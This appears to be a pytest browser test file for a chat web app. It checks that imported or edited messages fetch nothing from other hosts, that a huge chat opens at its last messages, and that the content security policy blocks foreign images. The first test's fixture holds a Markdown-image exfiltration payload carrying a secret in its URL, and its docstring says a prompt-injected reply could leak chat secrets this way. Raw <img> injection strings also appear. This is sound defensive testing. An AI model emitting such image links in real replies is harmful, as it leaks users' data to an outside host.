"""What a chat's own content may make the page do, in Debian's Chromium against the real app
(conftest's chat_app): an imported chat's messages and fields load nothing from another host and
show as typed (issue 41, items 6 and 7)."""

from __future__ import annotations

import json
import socket
import threading
import time
from pathlib import Path

import pytest
from chat_page_utils import (  # noqa: F401 (browser: fixture)
    BROWSER_MARKS,
    REPLY,
    browser,
    pick_import_file,
    wait_page_loaded,
)
from server_utils import wait_until

pytestmark = BROWSER_MARKS


@pytest.fixture
def app(chat_app):
    return chat_app


def open_page(page, app) -> None:
    """Open the chat page (the one place that knows its address)."""
    page.goto(app.page_url)
    wait_page_loaded(page, "Ready", 180)


@pytest.fixture
def tab(browser, app):
    context = browser.new_context(viewport={"width": 1280, "height": 860})
    yield context.new_page()
    context.close()


class Listener:
    """A loopback port that counts the connections made to it: "another host" for the page."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def listener():
    other = Listener()
    yield other
    other.close()


def import_chat(page, path: Path) -> None:
    pick_import_file(page, path)


def test_a_chat_with_images_from_another_host_loads_nothing_from_it(tab, app, listener, tmp_path):
    """Issue 41, item 6: an assistant message "![x](http://127.0.0.1:9/exfil.png?secret=PIN4321)"
    was fetched as soon as the chat opened (a prompt-injected reply can carry the chat's secrets
    out so). A Markdown image shows as a link, "🖼 x · image from host — click to open", and
    nothing is requested from that host (neither a reference image nor HTML <img>). Item 7 in
    the same chat: the imported model and stop reason show as typed in the line under the reply."""
    other = f"http://127.0.0.1:{listener.port}"
    forged = f"<img src={other}/model.png>**bold**"
    reply = (
        f"Here: ![secret]({other}/exfil.png?secret=PIN4321) and ![ref][r] and <img src={other}/raw.png>.\n\n"
        f"[r]: {other}/ref.png"
    )
    chat = tmp_path / "images.json"
    chat.write_text(
        json.dumps(
            {
                "title": f"Quagga images {time.time_ns()}",
                "format": "minisgl-chat conversation",
                "messages": [
                    {"role": "user", "content": "show me"},
                    {
                        "role": "assistant",
                        "content": reply,
                        "model": forged,
                        "stats": {"tokens": 3, "stopped": True, "stopped_by": forged},
                    },
                ],
            }
        )
    )
    requested: list[str] = []
    tab.on("request", lambda r: requested.append(r.url))
    open_page(tab, app)
    import_chat(tab, chat)
    link = tab.locator(f"{REPLY} a", has_text="image from 127.0.0.1")
    assert wait_until(lambda: link.count() == 1, 30), tab.inner_text("#chatbot")[:500]
    assert (
        link.inner_text().replace("\u2062", "") == "🖼 secret · image from 127.0.0.1 — click to open"
    ), link.inner_text()
    assert link.get_attribute("href") == f"{other}/exfil.png?secret=PIN4321"
    assert tab.locator("#chatbot img").count() == 0, tab.inner_html("#chatbot")[:2000]
    line = tab.locator("#chatbot .thought-group .title").last.inner_text()
    assert f"stopped ({forged}) · {forged}" in line, line  # as typed: no image, no bold
    assert tab.locator("#chatbot .thought-group .title strong").count() == 0
    time.sleep(1.0)  # a fetch started by the page would have reached the port by now
    assert listener.connections == 0 and not [u for u in requested if str(listener.port) in u], (
        requested
    )


def test_a_chat_of_100000_messages_imports_and_opens_at_its_last_messages(tab, app, tmp_path):
    """Issue 41, item 9: a 100,000-message chat (4 MB) took 22 s to import and crashed the
    browser's tab as it opened. It imports in one batch and opens at its last 200 messages, under
    a line that shows earlier ones, 200 at a click."""
    WINDOW = 200  # view.WINDOW

    title = f"Quagga long {time.time_ns()}"
    turns = [
        {"role": "user" if i % 2 == 0 else "assistant", "content": f"Quagga line {i}"}
        for i in range(100_000)
    ]
    chat = tmp_path / "long.json"
    chat.write_text(json.dumps({"title": title, "messages": turns}))
    open_page(tab, app)
    import_chat(tab, chat)
    last = tab.locator(REPLY, has_text="Quagga line 99999")
    assert wait_until(lambda: last.count() == 1, 60), tab.inner_text("#chatbot")[-300:]
    shown = tab.locator("#chatbot .message-row")
    assert shown.count() == WINDOW + 1, shown.count()  # the last WINDOW and the line above them
    earlier = tab.locator("#chatbot .message-row", has_text="Show 200 earlier messages").first
    assert "99,800 not shown" in earlier.inner_text()
    assert tab.evaluate("""() => { const row = [...document.querySelectorAll('#chatbot .message-row')].find(r => r.querySelector('.earlier-line'));
        const box = row && row.nextElementSibling; return !!row && !(box && box.matches('.message-buttons') && box.getClientRects().length); }"""), (
        "the line above the chat has a Copy or ✎ of its own"
    )
    earlier.click()
    assert wait_until(
        lambda: tab.locator("#chatbot .message-row", has_text="Quagga line 99600").count() == 1, 30
    )
    assert "99,600 not shown" in tab.locator("#chatbot .message-row").first.inner_text()


def test_html_and_an_image_typed_in_an_edit_load_nothing_and_are_saved_as_typed(
    tab, app, listener, tmp_path
):
    """Issue 45, item 6: a reply edited to "<img src=probe-i>" made the browser request /probe-i:
    Gradio shows the edited text as Markdown at once, before the page's answer shows it as typed.
    The edit's text is marked as the page shows it before Gradio takes it: nothing is requested
    (this origin or another), and the reply is saved and shown as typed."""
    other = f"http://127.0.0.1:{listener.port}"
    typed = f"<img src=probe-i> and <img src={other}/p.png> and ![x](probe-j)"
    chat = tmp_path / "edit.json"
    chat.write_text(
        json.dumps(
            {
                "title": f"Quagga edit {time.time_ns()}",
                "messages": [
                    {"role": "user", "content": "hi"},
                    {"role": "assistant", "content": "hello there"},
                ],
            }
        )
    )
    requested: list[str] = []
    tab.on("request", lambda r: requested.append(r.url))
    open_page(tab, app)
    import_chat(tab, chat)
    reply = tab.locator(REPLY, has_text="hello there")
    assert wait_until(lambda: reply.count() == 1, 30)
    row = tab.locator("#chatbot .message-row:not(:has(.thought-group))").nth(1)
    row.hover()
    buttons = row.locator("xpath=following-sibling::div[contains(@class, 'message-buttons')][1]")
    buttons.locator("button[aria-label='Edit']").click()
    box = row.locator("textarea.edit-textarea").first
    box.wait_for(state="visible")
    box.fill(typed)
    buttons.locator("button[aria-label='Submit']").click()
    shown = lambda: tab.locator(REPLY).last.inner_text().replace("\u2060", "")  # noqa: E731
    # as typed, once the page's answer redrew it (the image a link to it)
    assert wait_until(
        lambda: (
            shown().replace("\u2062", "")
            == typed.replace("![x](probe-j)", "🖼 x · image — click to open")
        ),
        30,
    ), shown()
    time.sleep(1.0)  # a fetch started by the page would have been seen by now
    assert not [u for u in requested if "probe-" in u or str(listener.port) in u], requested
    assert tab.locator("#chatbot img").count() == 0


def test_the_page_runs_under_its_content_security_policy_and_it_blocks_other_hosts_images(
    tab, app, listener
):
    """Issue 41, item 6, the second guard: the page's responses carry `img-src 'self' data: blob:`
    (and media-src likewise), with the server's frame-ancestors; the page works under it (its
    panels open, a reply streams) with no CSP error in the console from Gradio's own code; and
    an image from another host, put into the page by any means, is refused by the browser."""
    import requests

    from minisgl_app.page.csp import PAGE_CSP

    policy = requests.get(f"{app.url}/", cookies=app.page_cookies, timeout=10).headers.get(
        "content-security-policy", ""
    )
    assert PAGE_CSP in policy and "frame-ancestors 'none'" in policy, policy
    console: list[str] = []
    tab.on("console", lambda m: console.append(f"{m.type}: {m.text}"))
    open_page(tab, app)
    for panel in ("Settings", "Models", "Manage"):
        tab.click(f"text={panel}")
    tab.fill("#msg-input textarea", "Say hi.")
    tab.press("#msg-input textarea", "Enter")
    assert wait_until(
        lambda: tab.locator(REPLY).count() >= 1 and "Ready" in tab.inner_text("#status-line"), 120
    )
    csp_errors = [
        line
        for line in console
        if "Content Security Policy" in line or "Content-Security-Policy" in line
    ]
    assert csp_errors == [], csp_errors
    tab.evaluate(
        "(src) => { const img = new Image(); img.src = src; document.body.appendChild(img); }",
        f"http://127.0.0.1:{listener.port}/injected.png",
    )
    assert wait_until(lambda: any("Content Security Policy" in line for line in console), 10), (
        console[-5:]
    )
    assert listener.connections == 0
